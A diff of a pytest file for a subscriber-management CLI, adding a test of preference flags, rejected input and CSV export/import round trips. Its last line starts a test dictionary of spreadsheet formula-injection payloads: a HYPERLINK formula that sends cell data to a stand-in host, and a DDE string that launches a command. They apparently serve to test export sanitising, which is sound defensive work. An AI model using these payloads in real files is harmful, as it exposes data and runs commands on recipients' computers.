@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from conftest import Project
+from library_support import small_library
 from pg_support import BACKENDS, pg_url, postgres_server, rows, store_location  # noqa: F401  (fixtures)
 from policy_site.notify.addresses import (
     InvalidAddress,
@@ -238,6 +239,50 @@ def test_cli_import_export_round_trip(project: Project, tmp_path: Path, new_stor
     project.run("subscribers", "import", str(dump), env=other, check=True)
     assert project.run("subscribers", "export", env=other, check=True).stdout.splitlines()[1:] == \
         exported.splitlines()[1:]
+
+
+def test_cli_add_with_preferences_list_and_export(tmp_path: Path) -> None:
+    """--documents, --changes, --language: checked against what the project offers; those not given are kept."""
+    library = small_library(tmp_path / "library")
+    env = _env(tmp_path)
+
+    def listed(address: str) -> list[str]:
+        lines = library.run("subscribers", "list", env=env, check=True).stdout.splitlines()
+        assert lines[0].split() == ["address", "subscribed", "documents", "changes", "language", "confirmed", "name"]
+        return next(line.split() for line in lines[1:] if line.startswith(address))
+
+    library.run("subscribers", "add", "ann@example.org", "--name", "Ann", "--documents", "terms,privacy",
+                "--changes", "all", "--language", "de", env=env, check=True)
+    assert listed("ann@")[2:] == ["privacy,terms", "all", "de", "-", "Ann"]
+    library.run("subscribers", "add", "ann@example.org", "--changes", "material", env=env, check=True)
+    assert listed("ann@")[2:] == ["privacy,terms", "material", "de", "-", "Ann"]
+    library.run("subscribers", "add", "ann@example.org", "--documents", "all", "--language", "", env=env, check=True)
+    assert listed("ann@")[2:] == ["*", "material", "-", "-", "Ann"]
+    library.run("subscribers", "add", "bob@example.org", env=env, check=True)
+    assert listed("bob@")[2:] == ["*", "material", "-", "-"]
+
+    refused = {("--documents", "privacy,cookies"): "--documents takes 'all' or document ids separated by commas "
+                                                    "(documents: privacy, terms), not 'privacy,cookies'",
+               ("--documents", ","): "--documents takes 'all'",
+               ("--language", "fr"): "--language fr: no document is translated into it (translations: de)"}
+    for args, message in refused.items():
+        result = library.run("subscribers", "add", "bob@example.org", *args, env=env)
+        assert result.returncode == 1 and message in result.stderr and "Traceback" not in result.stderr, result
+    bad_kind = library.run("subscribers", "add", "bob@example.org", "--changes", "some", env=env)
+    assert bad_kind.returncode == 2 and "invalid choice: 'some'" in bad_kind.stderr
+    assert listed("bob@")[2:] == ["*", "material", "-", "-"]
+
+    library.run("subscribers", "add", "ann@example.org", "--documents", "terms", "--changes", "all", "--language",
+                "de", env=env, check=True)
+    exported = library.run("subscribers", "export", env=env, check=True).stdout
+    table = list(csv.DictReader(io.StringIO(exported)))
+    assert [(r["email"], r["documents"], r["changes"], r["language"], r["confirmed"]) for r in table] == [
+        ("ann@example.org", "terms", "all", "de", ""), ("bob@example.org", "*", "material", "", "")]
+    dump = tmp_path / "dump.csv"
+    dump.write_text(exported, encoding="utf-8")
+    other = {"POLICY_SUBSCRIBERS_DB": str(tmp_path / "other.sqlite3")}
+    library.run("subscribers", "import", str(dump), env=other, check=True)
+    assert library.run("subscribers", "export", env=other, check=True).stdout == exported
 
 
 FORMULAS = {"eq@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"click")', "plus@example.org": "+cmd|' /C calc'!A0",
